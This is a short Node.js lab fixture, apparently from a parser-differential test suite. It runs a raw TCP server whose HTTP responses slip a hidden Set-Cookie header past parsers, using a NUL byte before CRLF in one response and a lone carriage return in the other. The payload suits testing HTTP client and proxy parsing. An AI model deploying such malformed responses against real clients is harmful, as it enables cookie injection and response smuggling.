// exploit: puts NUL bytes and lone carriage returns into header lines, where readers differ
// kind: lab
// exchange: not-http
// steps: GET / | GET /
// outcome: finished
// hides: Set-Cookie
const lines = ['X-A: b\0\r\nSet-Cookie: a=b', 'X-A: b\rSet-Cookie: a=b']
let asked = 0
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.once('data', () => socket.end(`HTTP/1.1 200 OK\r\n${lines[asked++ % 2]}\r\nContent-Length: 0\r\n\r\n`))
}).listen(process.env.PORT)
